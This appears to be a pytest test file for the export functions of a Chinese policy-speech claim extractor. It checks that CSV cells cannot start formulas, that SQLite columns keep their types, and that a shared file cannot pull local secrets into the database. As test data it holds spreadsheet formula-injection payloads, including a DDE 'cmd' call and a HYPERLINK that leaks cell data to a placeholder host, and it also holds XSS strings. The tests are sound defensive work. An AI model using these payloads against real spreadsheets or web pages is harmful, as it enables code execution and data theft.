"""Exports a user can share: the text stored is the file the run read, CSV cells are inert,
SQLite columns hold the type they say."""

from __future__ import annotations

import csv
import json
import sqlite3

import pytest
from zhibiao import extract_file, extract_text
from zhibiao.io.tables import export_csv, export_sqlite

SPEECH = "2023年全市生产总值增长7.2%。全市单位GDP能耗下降18%。城镇登记失业率控制在4%以内。"
OTHER = "这是另一个文件，内容完全不同，偏移量在这里毫无意义，不应进入数据库。" * 3


def run_extract(tmp_path, monkeypatch) -> str:
    """A run in tmp/run that wrote relative source paths (docs/s.txt) and its JSONL beside them."""
    run = tmp_path / "run"
    (run / "docs").mkdir(parents=True)
    (run / "docs" / "s.txt").write_text(SPEECH, encoding="utf-8")
    monkeypatch.chdir(run)
    d = extract_file("docs/s.txt").to_dict()
    assert d["source"]["path"] == "docs/s.txt" and d["claims"]
    out = run / "claims.jsonl"
    out.write_text(json.dumps(d, ensure_ascii=False) + "\n", encoding="utf-8")
    return str(out)


def documents(db: str) -> list[dict]:
    con = sqlite3.connect(db)
    con.row_factory = sqlite3.Row
    rows = [dict(r) for r in con.execute("SELECT * FROM documents")]
    con.close()
    return rows


def test_relative_source_is_found_beside_the_jsonl_from_another_folder(tmp_path, monkeypatch):
    src = run_extract(tmp_path, monkeypatch)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    export_sqlite(src, "c.db")
    con = sqlite3.connect("c.db")
    text, stored = con.execute("SELECT text, text_stored FROM documents").fetchone()
    for start, end, sentence in con.execute("SELECT start, end, sentence FROM claims"):
        assert text[start:end] == sentence
    assert stored == 1


def test_another_file_at_the_same_relative_path_is_not_stored(tmp_path, monkeypatch, capsys):
    src = run_extract(tmp_path, monkeypatch)
    (tmp_path / "run" / "docs" / "s.txt").unlink()  # moved away; a different file sits at docs/s.txt here
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "docs").mkdir(parents=True)
    (elsewhere / "docs" / "s.txt").write_text(OTHER, encoding="utf-8")
    monkeypatch.chdir(elsewhere)
    export_sqlite(src, "c.db")
    [doc] = documents("c.db")
    assert doc["text"] is None and doc["text_stored"] == 0 and "sha256" in doc["text_note"]
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "text not stored" in err[0] and doc["doc_id"] in err[0]


def test_a_shared_jsonl_cannot_pull_a_local_file_into_the_db(tmp_path, capsys):
    secret = tmp_path / "secret.txt"
    secret.write_text("password=hunter2\n", encoding="utf-8")
    d = extract_text(SPEECH, doc_id="shared").to_dict()
    d["source"].update(path=str(secret), sha256="0" * 64)
    src = tmp_path / "shared.jsonl"
    src.write_text(json.dumps(d, ensure_ascii=False) + "\n", encoding="utf-8")
    export_sqlite(str(src), str(tmp_path / "c.db"))
    [doc] = documents(str(tmp_path / "c.db"))
    assert doc["text"] is None and doc["text_stored"] == 0
    assert "hunter2" not in (tmp_path / "c.db").read_bytes().decode("utf-8", "replace")
    assert "text not stored" in capsys.readouterr().err


def hostile_rows_doc() -> dict:
    d = extract_text(SPEECH, doc_id="csv").to_dict()
    c = d["claims"][0]
    c["indicator"]["name"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    c["subject"] = "@SUM(1+1)"
    c["period"] = "\t=1+1"
    c["sentence"]["text"] = "+cmd|' /C calc'!A0"
    d["claims"][1]["indicator"]["name"] = "-2+3"
    d["claims"][2]["subject"] = "\r=1"
    return d


def test_csv_text_cells_cannot_start_a_formula(tmp_path):
    src = tmp_path / "h.jsonl"
    src.write_text(json.dumps(hostile_rows_doc(), ensure_ascii=False) + "\n", encoding="utf-8")
    export_csv(str(src), str(tmp_path / "h.csv"))
    with open(tmp_path / "h.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["indicator_name"].startswith("'=HYPERLINK")
    assert rows[0]["subject"] == "'@SUM(1+1)" and rows[0]["period"] == "'\t=1+1"
    assert rows[0]["sentence"] == "'+cmd|' /C calc'!A0"
    assert rows[1]["indicator_name"] == "'-2+3" and rows[2]["subject"] == "'\r=1"
    # numbers in numeric columns stay numbers: a fall of 18% is -18.0, not '-18.0
    assert rows[1]["growth_rate"] == "-18.0"
    for r in rows:
        for v in r.values():
            assert not v or v[0] not in "=+@\t\r" and not (v[0] == "-" and not _number(v))


def _number(v: str) -> bool:
    try:
        float(v)
        return True
    except ValueError:
        return False


def test_sqlite_number_columns_refuse_text(tmp_path):
    d = extract_text(SPEECH, doc_id="typed").to_dict()
    src = tmp_path / "t.jsonl"
    src.write_text(json.dumps(d, ensure_ascii=False) + "\n", encoding="utf-8")
    export_sqlite(str(src), str(tmp_path / "t.db"))
    con = sqlite3.connect(tmp_path / "t.db")
    types = {r[1]: r[2] for r in con.execute("PRAGMA table_info(claims)")}
    assert types["start"] == "INTEGER" and types["confidence"] == "REAL" and types["sentence"] == "TEXT"
    with pytest.raises(sqlite3.Error):
        con.execute("UPDATE claims SET start = '\"><img src=x onerror=alert(1)>'")
    d["claims"][0]["sentence"]["start"] = '"><script>alert(1)</script>'
    src.write_text(json.dumps(d, ensure_ascii=False) + "\n", encoding="utf-8")
    with pytest.raises(ValueError, match="typed"):
        export_sqlite(str(src), str(tmp_path / "t2.db"))
    assert not (tmp_path / "t2.db").exists()


def test_input_that_is_not_jsonl_is_a_clear_error(tmp_path):
    bad = tmp_path / "speech.txt"
    bad.write_text(SPEECH, encoding="utf-8")
    with pytest.raises(ValueError, match=r"speech.txt, line 1: not an extract output"):
        export_csv(str(bad), str(tmp_path / "x.csv"))
    assert not (tmp_path / "x.csv").exists()
